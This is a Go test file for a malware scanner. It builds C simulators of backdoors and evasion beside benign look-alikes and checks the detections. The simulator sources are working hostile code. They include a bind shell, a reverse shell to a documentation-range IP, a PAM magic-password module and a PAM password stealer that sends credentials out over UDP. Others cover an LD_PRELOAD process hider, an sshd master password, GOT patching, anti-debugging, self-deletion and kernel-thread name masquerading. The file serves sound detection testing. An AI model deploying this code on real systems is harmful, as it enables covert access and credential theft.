package builtin_test

import (
	"bytes"
	"encoding/json"
	"os/exec"
	"testing"

	"kensa.dev/kensa/internal/cli"
	"kensa.dev/kensa/internal/result"
)

// TestRecallBackdoorListenersAuthAndEvasion builds a delivery holding simulators of
// hidden listeners, authentication backdoors, the xz-utils library shape, process hiding,
// anti-debugging, self-deletion and process-name masquerading (each a small program,
// library or script that really has the trait, never run) beside ordinary programs that
// look like them, and checks that a scan with the built-in packs flags each simulator at
// its family's severity and leaves the ordinary files below medium.
func TestRecallBackdoorListenersAuthAndEvasion(t *testing.T) {
	if _, err := exec.LookPath("gcc"); err != nil {
		t.Skip("gcc is needed to build the simulators")
	}
	d := t.TempDir()
	for name, src := range backdoorExtraSources {
		write(t, d, "src/"+name, src, 0o644)
	}
	for _, dir := range []string{"opt/vendor/bin", "opt/vendor/lib", "opt/vendor/win", "lib/security"} {
		write(t, d, dir+"/.keep", "", 0o644)
	}
	gcc := func(out, src string, extra ...string) {
		build(t, d, "gcc", append([]string{"-O2", "-s", "-o", out, "src/" + src}, extra...)...)
	}
	so := func(out, src string, extra ...string) {
		gcc(out, src, append([]string{"-shared", "-fPIC"}, extra...)...)
	}

	// Simulators.
	gcc("opt/vendor/bin/diagd", "diagd.c")
	gcc("opt/vendor/bin/phone-home", "phonehome.c")
	gcc("opt/vendor/bin/licguard", "licguard.c")
	gcc("opt/vendor/bin/kdevd", "kdevd.c")
	so("lib/security/pam_vendor.so", "pam_vendor.c")
	so("lib/security/pam_audit_ext.so", "pam_audit_ext.c")
	so("opt/vendor/lib/libvendorsso.so", "libvendorsso.c", "-ldl")
	so("opt/vendor/lib/liblzma.so.5", "liblzma.c", "-Wl,-soname,liblzma.so.5")
	so("opt/vendor/lib/libprocmon.so", "libprocmon.c", "-ldl")
	write(t, d, "scripts/postinstall.sh", `#!/bin/sh
set -e
install -m 0755 lib/libvendorsso.so /usr/lib/x86_64-linux-gnu/.libvendorsso.so
echo "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/.libvendorsso.so" >> /etc/environment
`, 0o755)
	write(t, d, "scripts/load-accel.sh", `#!/bin/bash
mkdir -p /dev/shm/.accel && cp drivers/accel.ko /dev/shm/.accel/
insmod /dev/shm/.accel/accel.ko
rm -f /dev/shm/.accel/accel.ko
dmesg -C
`, 0o755)
	write(t, d, "scripts/firstboot.sh", `#!/bin/sh
/opt/vendor/bin/licguard --register
rm -f -- "$0"
`, 0o755)
	write(t, d, "scripts/keepalive.sh", `#!/bin/bash
unset HISTFILE
exec -a '[kworker/1:1-events]' /opt/vendor/bin/kdevd
`, 0o755)
	write(t, d, "scripts/sshd-debug.sh", `#!/bin/sh
cp lib/libvendorsso.so /var/tmp/.ssh-agent.so
LD_PRELOAD=/var/tmp/.ssh-agent.so /usr/sbin/sshd -p 2222
`, 0o755)
	mingw := false
	if _, err := exec.LookPath("x86_64-w64-mingw32-gcc"); err == nil {
		mingw = true
		build(t, d, "x86_64-w64-mingw32-gcc", "-O2", "-s", "-o", "opt/vendor/win/updater.exe", "src/updater-win.c")
		build(t, d, "x86_64-w64-mingw32-gcc", "-O2", "-s", "-o", "opt/vendor/win/setup-helper.exe", "src/setup-helper-win.c")
	}

	// Ordinary look-alikes.
	gcc("opt/vendor/bin/statusd", "statusd.c")
	gcc("opt/vendor/bin/vtrace", "vtrace.c")
	gcc("opt/vendor/bin/agentd", "agentd.c")
	so("lib/security/pam_vendorpw.so", "pam_vendorpw.c")
	so("opt/vendor/lib/libvendorsig.so", "libvendorsig.c")
	so("opt/vendor/lib/libvendorz.so.1", "libvendorz.c", "-Wl,-soname,libvendorz.so.1")
	write(t, d, "scripts/with-eatmydata.sh", `#!/bin/sh
export LD_PRELOAD="/usr/lib/x86_64-linux-gnu/libeatmydata.so${LD_PRELOAD:+:$LD_PRELOAD}"
exec "$@"
`, 0o755)
	write(t, d, "etc/systemd/system/vendor-cache.service", `[Unit]
Description=Vendor cache

[Service]
Environment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2
ExecStart=/opt/vendor/bin/agentd --cache
`, 0o644)
	write(t, d, "debian/postinst", `#!/bin/sh
set -e
if [ "$1" = configure ]; then
  dkms install -m vendor-accel -v 3.1.0 || true
  modprobe vendor_accel || true
fi
`, 0o755)
	write(t, d, "scripts/unpack.sh", `#!/bin/sh
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
tail -n +8 "$0" | tar -xz -C "$tmp"
"$tmp/install.sh"
rm -f "$0.lock"
`, 0o755)

	res := scan(t, d)
	wantFinding(t, res, "opt/vendor/bin/diagd", "backdoor/elf-bind-shell", result.Critical)
	wantFinding(t, res, "opt/vendor/bin/phone-home", "backdoor/elf-reverse-shell", result.Critical)
	wantFinding(t, res, "lib/security/pam_vendor.so", "backdoor/pam-module-magic-password", result.Medium)
	wantFinding(t, res, "lib/security/pam_audit_ext.so", "backdoor/pam-module-password-capture", result.High)
	wantFinding(t, res, "lib/security/pam_audit_ext.so", "backdoor/pam-module-network", result.High)
	wantFinding(t, res, "opt/vendor/lib/libvendorsso.so", "backdoor/auth-function-interposer", result.High)
	wantFinding(t, res, "opt/vendor/lib/liblzma.so.5", "backdoor/compression-library-sshd-hook", result.Critical)
	wantFinding(t, res, "opt/vendor/lib/liblzma.so.5", "backdoor/ifunc-unexpected-library", result.Medium)
	wantFinding(t, res, "opt/vendor/lib/libprocmon.so", "backdoor/proc-hiding-readdir", result.Critical)
	wantFinding(t, res, "scripts/postinstall.sh", "backdoor/ld-preload-environment", result.High)
	wantFinding(t, res, "scripts/load-accel.sh", "backdoor/kernel-module-load-and-hide", result.High)
	wantFinding(t, res, "opt/vendor/bin/licguard", "evasion/ptrace-self-check", result.High)
	wantFinding(t, res, "opt/vendor/bin/licguard", "evasion/tracerpid-check", result.Medium)
	wantFinding(t, res, "opt/vendor/bin/kdevd", "evasion/kernel-thread-name-masquerade", result.Critical)
	wantFinding(t, res, "scripts/keepalive.sh", "evasion/kernel-thread-name-masquerade", result.Critical)
	wantFinding(t, res, "scripts/firstboot.sh", "evasion/script-self-delete", result.Medium)
	wantFinding(t, res, "scripts/keepalive.sh", "evasion/shell-history-disabled-script", result.Medium)
	wantFinding(t, res, "scripts/sshd-debug.sh", "backdoor/ld-preload-hidden-library", result.High)
	if mingw {
		wantFinding(t, res, "opt/vendor/win/updater.exe", "evasion/pe-self-delete-cmd", result.High)
		wantFinding(t, res, "opt/vendor/win/updater.exe", "evasion/pe-anti-debug-imports", result.Medium)
		wantNoFinding(t, res, "opt/vendor/win/setup-helper.exe", result.Medium)
	}
	for _, p := range []string{"opt/vendor/bin/statusd", "opt/vendor/bin/vtrace", "opt/vendor/bin/agentd",
		"lib/security/pam_vendorpw.so", "opt/vendor/lib/libvendorsig.so", "opt/vendor/lib/libvendorz.so.1",
		"scripts/with-eatmydata.sh", "etc/systemd/system/vendor-cache.service", "debian/postinst",
		"scripts/unpack.sh"} {
		wantNoFinding(t, res, p, result.Medium)
	}
	for name := range backdoorExtraSources {
		wantNoFinding(t, res, "src/"+name, result.Medium)
	}
}

// backdoorExtraSources are the C sources of the simulators and look-alikes, by file name.
var backdoorExtraSources = map[string]string{
	"diagd.c": `#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(47001)};
	int s = socket(AF_INET, SOCK_STREAM, 0);
	bind(s, (struct sockaddr *)&a, sizeof a);
	listen(s, 4);
	for (;;) {
		int c = accept(s, 0, 0);
		if (fork() == 0) { dup2(c, 0); dup2(c, 1); dup2(c, 2); execl("/bin/bash", "bash", "-i", (char *)0); }
		close(c);
	}
}
`,
	"phonehome.c": `#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(443)};
	inet_pton(AF_INET, "198.51.100.23", &a.sin_addr);
	for (;;) {
		int s = socket(AF_INET, SOCK_STREAM, 0);
		if (connect(s, (struct sockaddr *)&a, sizeof a) == 0 && fork() == 0) {
			dup2(s, 0); dup2(s, 1); dup2(s, 2);
			execl("/bin/sh", "sh", (char *)0);
		}
		close(s);
		sleep(300);
	}
}
`,
	"licguard.c": `#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
int main(void) {
	if (ptrace(PTRACE_TRACEME, 0, 0, 0) < 0) return 0;
	prctl(PR_SET_DUMPABLE, 0);
	char l[128];
	FILE *f = fopen("/proc/self/status", "r");
	while (f && fgets(l, sizeof l, f)) if (!strncmp(l, "TracerPid:", 10) && atoi(l + 10)) return 0;
	puts("licence ok");
	return 0;
}
`,
	"kdevd.c": `#include <string.h>
#include <sys/prctl.h>
#include <unistd.h>
int main(int argc, char **argv) {
	strncpy(argv[0], "[kworker/1:1-events]", strlen(argv[0]));
	prctl(PR_SET_NAME, "kworker/1:1", 0, 0, 0);
	for (;;) sleep(30);
}
`,
	"pam_vendor.c": `#include <stddef.h>
#include <string.h>
typedef struct pam_handle pam_handle_t;
extern int pam_get_authtok(pam_handle_t *, int, const char **, const char *);
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *pw = NULL;
	if (pam_get_authtok(h, 6, &pw, NULL) == 0 && pw && strcmp(pw, "vend0r-support!2019") == 0) return 0;
	return 25;
}
int pam_sm_setcred(pam_handle_t *h, int flags, int argc, const char **argv) { return 0; }
`,
	"pam_audit_ext.c": `#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
typedef struct pam_handle pam_handle_t;
extern int pam_get_item(const pam_handle_t *, int, const void **);
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const void *user = NULL, *pw = NULL;
	char line[256];
	pam_get_item(h, 2, &user);
	pam_get_item(h, 6, &pw);
	snprintf(line, sizeof line, "%s %s\n", user ? (const char *)user : "-", pw ? (const char *)pw : "-");
	FILE *f = fopen("/dev/shm/.pulse-cookie", "a");
	if (f) { fprintf(f, "%s", line); fclose(f); }
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(8053)};
	inet_pton(AF_INET, "198.51.100.77", &a.sin_addr);
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	sendto(s, line, strlen(line), 0, (struct sockaddr *)&a, sizeof a);
	return 25;
}
int pam_sm_setcred(pam_handle_t *h, int flags, int argc, const char **argv) { return 0; }
`,
	"libvendorsso.c": `#define _GNU_SOURCE
#include <dlfcn.h>
#include <string.h>
typedef struct pam_handle pam_handle_t;
int pam_authenticate(pam_handle_t *h, int flags) {
	int (*real)(pam_handle_t *, int) = dlsym(RTLD_NEXT, "pam_authenticate");
	return real(h, flags);
}
char *crypt(const char *key, const char *salt) {
	char *(*real)(const char *, const char *) = dlsym(RTLD_NEXT, "crypt");
	return real(key, salt);
}
`,
	"liblzma.c": `#include <stddef.h>
#include <stdint.h>
static const char *const wanted[] = {"RSA_public_decrypt", "EVP_PKEY_set1_RSA", "_dl_audit_preinit"};
const char *const *lzma_internal_tbl = wanted;
static uint32_t crc32_generic(const uint8_t *b, size_t n, uint32_t c) { while (n--) c = (c >> 8) ^ *b++; return c; }
static void *crc32_resolve(void) { return (void *)crc32_generic; }
uint32_t lzma_crc32(const uint8_t *b, size_t n, uint32_t c) __attribute__((ifunc("crc32_resolve")));
int lzma_stream_decoder(void *s, uint64_t memlimit, uint32_t flags) { return (int)flags; }
`,
	"libprocmon.c": `#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>
static int hide(const char *pid) {
	char p[256], comm[64] = "";
	snprintf(p, sizeof p, "/proc/%s/comm", pid);
	FILE *f = fopen(p, "r");
	if (!f) return 0;
	if (fgets(comm, sizeof comm, f)) comm[strcspn(comm, "\n")] = 0;
	fclose(f);
	return strcmp(comm, "kdevd") == 0;
}
struct dirent64 *readdir64(DIR *d) {
	struct dirent64 *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir64");
	struct dirent64 *e;
	while ((e = real(d)) && hide(e->d_name));
	return e;
}
`,
	"updater-win.c": `#include <windows.h>
#include <stdio.h>
typedef LONG(WINAPI *q_t)(HANDLE, ULONG, PVOID, ULONG, PULONG);
int main(void) {
	BOOL r = FALSE;
	DWORD_PTR port = 0;
	char self[MAX_PATH], cmd[MAX_PATH + 96];
	STARTUPINFOA si = {sizeof si};
	PROCESS_INFORMATION pi;
	if (IsDebuggerPresent()) return 0;
	CheckRemoteDebuggerPresent(GetCurrentProcess(), &r);
	q_t q = (q_t)GetProcAddress(GetModuleHandleA("ntdll.dll"), "NtQueryInformationProcess");
	if (r || (q && q(GetCurrentProcess(), 7, &port, sizeof port, NULL) == 0 && port)) return 0;
	GetModuleFileNameA(NULL, self, MAX_PATH);
	snprintf(cmd, sizeof cmd, "cmd.exe /c timeout /t 3 /nobreak > nul & del /f /q \"%s\"", self);
	CreateProcessA(NULL, cmd, NULL, NULL, FALSE, CREATE_NO_WINDOW, NULL, NULL, &si, &pi);
	return 0;
}
`,
	"setup-helper-win.c": `#include <windows.h>
int main(void) {
	char self[MAX_PATH];
	GetModuleFileNameA(NULL, self, MAX_PATH);
	if (IsDebuggerPresent()) OutputDebugStringA("setup-helper: starting\n");
	MoveFileExA(self, NULL, MOVEFILE_DELAY_UNTIL_REBOOT);
	return 0;
}
`,
	"statusd.c": `#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>
int main(void) {
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(9100)};
	int s = socket(AF_INET, SOCK_STREAM, 0);
	bind(s, (struct sockaddr *)&a, sizeof a);
	listen(s, 8);
	for (;;) {
		int c = accept(s, 0, 0);
		pid_t p = fork();
		if (p == 0) { dup2(c, 1); execl("/opt/vendor/libexec/metrics", "metrics", "--prometheus", (char *)0); _exit(1); }
		close(c);
		waitpid(p, 0, 0);
	}
}
`,
	"vtrace.c": `#include <stdio.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>
int main(int argc, char **argv) {
	if (argc < 2) return 2;
	pid_t p = fork();
	if (p == 0) { ptrace(PTRACE_TRACEME, 0, 0, 0); execvp(argv[1], argv + 1); _exit(127); }
	int st, n = 0;
	while (waitpid(p, &st, 0) == p && !WIFEXITED(st)) { n++; ptrace(PTRACE_SYSCALL, p, 0, 0); }
	fprintf(stderr, "%d stops\n", n);
	return 0;
}
`,
	"agentd.c": `#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <unistd.h>
int main(void) {
	char l[128];
	prctl(PR_SET_NAME, "agentd-worker", 0, 0, 0);
	FILE *f = fopen("/proc/self/status", "r");
	while (f && fgets(l, sizeof l, f)) if (!strncmp(l, "VmRSS:", 6)) fputs(l, stderr);
	for (;;) sleep(60);
}
`,
	"pam_vendorpw.c": `#include <stddef.h>
#include <string.h>
#include <syslog.h>
typedef struct pam_handle pam_handle_t;
struct spwd { char *sp_namp; char *sp_pwdp; };
extern struct spwd *getspnam(const char *);
extern char *crypt(const char *, const char *);
extern int pam_get_authtok(pam_handle_t *, int, const char **, const char *);
extern int pam_get_user(pam_handle_t *, const char **, const char *);
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *u = NULL, *pw = NULL;
	if (pam_get_user(h, &u, NULL) || pam_get_authtok(h, 6, &pw, NULL)) return 7;
	struct spwd *sp = getspnam(u);
	const char *x = sp ? crypt(pw, sp->sp_pwdp) : NULL;
	if (x && strcmp(x, sp->sp_pwdp) == 0) return 0;
	syslog(LOG_AUTHPRIV | LOG_NOTICE, "pam_vendorpw: failure for %s", u);
	return 7;
}
int pam_sm_setcred(pam_handle_t *h, int flags, int argc, const char **argv) { return 0; }
`,
	"libvendorsig.c": `typedef struct rsa_st RSA;
extern int RSA_public_decrypt(int, const unsigned char *, unsigned char *, RSA *, int);
int vendorsig_check(const unsigned char *sig, int n, unsigned char *out, RSA *k) {
	return RSA_public_decrypt(n, sig, out, k, 1);
}
`,
	"libvendorz.c": `#include <stddef.h>
#include <stdint.h>
uint32_t vz_crc32(const uint8_t *b, size_t n, uint32_t c) { while (n--) c = (c >> 8) ^ *b++; return c; }
int vz_compress(const uint8_t *in, size_t n, uint8_t *out) { for (size_t i = 0; i < n; i++) out[i] = in[i]; return (int)n; }
`,
}

// TestRecallCodeTraits builds a delivery holding an sshd patched with a master password,
// a compression library that patches the main program's GOT after walking the loaded
// objects, and a library that rewrites its own GOT (each a small program or library
// that really has the trait, never run), beside ordinary authentication programs and
// libraries that look like them, and checks that a scan with the built-in packs flags
// the simulators through the code analyzer's facts and leaves the look-alikes below
// high.
func TestRecallCodeTraits(t *testing.T) {
	if _, err := exec.LookPath("gcc"); err != nil {
		t.Skip("gcc is needed to build the simulators")
	}
	d := t.TempDir()
	for name, src := range codeTraitSources {
		write(t, d, "src/"+name, src, 0o644)
	}
	for _, dir := range []string{"usr/sbin", "usr/bin", "usr/lib/x86_64-linux-gnu"} {
		write(t, d, dir+"/.keep", "", 0o644)
	}
	gcc := func(out, src string, extra ...string) {
		build(t, d, "gcc", append([]string{"-O2", "-s", "-o", out, "src/" + src}, extra...)...)
	}
	so := func(out, src string, extra ...string) {
		gcc(out, src, append([]string{"-shared", "-fPIC"}, extra...)...)
	}
	// Simulators.
	gcc("usr/sbin/sshd", "sshd.c", "-lcrypt")
	so("usr/lib/x86_64-linux-gnu/liblzma.so.5", "lzma-got.c", "-Wl,-soname,liblzma.so.5")
	so("usr/lib/x86_64-linux-gnu/libvendorcfg.so.1", "vendorcfg.c", "-Wl,-soname,libvendorcfg.so.1")
	// Look-alikes.
	gcc("usr/bin/chkpass", "chkpass.c", "-lcrypt")
	gcc("usr/bin/login", "login.c")
	so("usr/lib/x86_64-linux-gnu/libmodinfo.so.1", "modinfo.c", "-Wl,-soname,libmodinfo.so.1")

	res := scanHere(t, d)
	wantFinding(t, res, "usr/sbin/sshd", "backdoor/literal-credential-compare", result.High)
	wantFinding(t, res, "usr/lib/x86_64-linux-gnu/liblzma.so.5", "backdoor/got-patching-library", result.Critical)
	wantFinding(t, res, "usr/lib/x86_64-linux-gnu/libvendorcfg.so.1", "backdoor/got-patching-library", result.Critical)
	for _, p := range []string{"usr/bin/chkpass", "usr/bin/login", "usr/lib/x86_64-linux-gnu/libmodinfo.so.1"} {
		wantNoFinding(t, res, p, result.High)
	}
}

// codeTraitSources are the C sources of TestRecallCodeTraits, by file name.
var codeTraitSources = map[string]string{
	"sshd.c": `#include <crypt.h>
#include <shadow.h>
#include <stdio.h>
#include <string.h>
static int auth_password(const char *user, const char *pw) {
	if (strcmp(pw, "Tr0ub4dor&3-maint") == 0) return 1;
	struct spwd *sp = getspnam(user);
	const char *h = sp ? crypt(pw, sp->sp_pwdp) : NULL;
	return h && strcmp(h, sp->sp_pwdp) == 0;
}
int main(int argc, char **argv) {
	char pw[128];
	if (argc < 2 || !fgets(pw, sizeof pw, stdin)) return 2;
	pw[strcspn(pw, "\n")] = 0;
	return auth_password(argv[1], pw) ? 0 : 1;
}
`,
	"lzma-got.c": `#define _GNU_SOURCE
#include <link.h>
#include <stdint.h>
#include <string.h>
#include <sys/mman.h>
static int fake(void) { return 1; }
static int walk(struct dl_phdr_info *info, size_t size, void *data) {
	const ElfW(Dyn) *dyn = NULL;
	for (int i = 0; i < info->dlpi_phnum; i++)
		if (info->dlpi_phdr[i].p_type == PT_DYNAMIC) dyn = (const void *)(info->dlpi_addr + info->dlpi_phdr[i].p_vaddr);
	for (; dyn && dyn->d_tag != DT_NULL; dyn++)
		if (dyn->d_tag == DT_PLTGOT) {
			void **got = (void **)dyn->d_un.d_ptr;
			void *page = (void *)((uintptr_t)(got + 3) & ~(uintptr_t)4095);
			mprotect(page, 4096, PROT_READ | PROT_WRITE);
			got[3] = (void *)fake;
			mprotect(page, 4096, PROT_READ);
		}
	return 1;
}
__attribute__((constructor)) static void init(void) { dl_iterate_phdr(walk, NULL); }
int lzma_stream_decoder(void *s, uint64_t memlimit, uint32_t flags) { return (int)flags; }
`,
	"vendorcfg.c": `#include <stdlib.h>
static char *none(const char *name) { return NULL; }
__attribute__((constructor)) static void setup(void) {
	void *p = (void *)none;
	__asm__ volatile("movq %0, getenv@GOTPCREL(%%rip)" : : "r"(p) : "memory");
}
const char *vendorcfg_home(void) { const char *h = getenv("HOME"); return h ? h : "/"; }
`,
	"chkpass.c": `#include <crypt.h>
#include <shadow.h>
#include <stdio.h>
#include <string.h>
int main(int argc, char **argv) {
	int quiet = 0;
	for (int i = 2; i < argc; i++) {
		if (!strcmp(argv[i], "--quiet")) quiet = 1;
		else if (!strcmp(argv[i], "hash=yescrypt")) continue;
		else if (!strcmp(argv[i], "hmac-sha2-256@openssh.com")) continue;
		else if (!strcmp(argv[i], "READY=1")) continue;
	}
	char pw[128];
	struct spwd *sp = argc > 1 ? getspnam(argv[1]) : NULL;
	if (!sp || !fgets(pw, sizeof pw, stdin)) return 2;
	pw[strcspn(pw, "\n")] = 0;
	const char *h = crypt(pw, sp->sp_pwdp);
	if (!quiet) puts(h && !strcmp(h, sp->sp_pwdp) ? "ok" : "denied");
	return 0;
}
`,
	"login.c": `#include <stdio.h>
#include <string.h>
int main(int argc, char **argv) {
	for (int i = 1; i < argc; i++) {
		if (!strcmp(argv[i], "-p")) continue;
		if (!strcmp(argv[i], "--host")) continue;
		if (!strncmp(argv[i], "/dev/tty", 8)) puts(argv[i]);
	}
	return 0;
}
`,
	"modinfo.c": `#define _GNU_SOURCE
#include <link.h>
#include <stdio.h>
#include <sys/mman.h>
static int one(struct dl_phdr_info *info, size_t size, void *data) { return printf("%s\n", info->dlpi_name) < 0; }
void modinfo_list(void) { dl_iterate_phdr(one, NULL); }
void *modinfo_guard(size_t n) {
	void *p = mmap(NULL, n, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (p != MAP_FAILED) mprotect(p, 4096, PROT_NONE);
	return p;
}
`,
}

// scanHere runs `kensa scan --format json --isolation none` on the targets: the files are
// parsed in this process, because the test binary does not serve as kensa's analysis
// worker. The exit code must be 0 or 1 and the result must hold no error.
func scanHere(t *testing.T, targets ...string) *result.Result {
	t.Helper()
	var stdout, stderr bytes.Buffer
	code := cli.Run(append([]string{"scan", "--format", "json", "--quiet", "--isolation", "none"}, targets...), &stdout, &stderr)
	if code != 0 && code != 1 {
		t.Fatalf("kensa scan exited %d: %s\n%s", code, stderr.String(), stdout.String())
	}
	var res result.Result
	if err := json.Unmarshal(stdout.Bytes(), &res); err != nil {
		t.Fatalf("decoding the result: %v", err)
	}
	if len(res.Errors) > 0 {
		t.Fatalf("the scan reported errors: %+v", res.Errors)
	}
	return &res
}
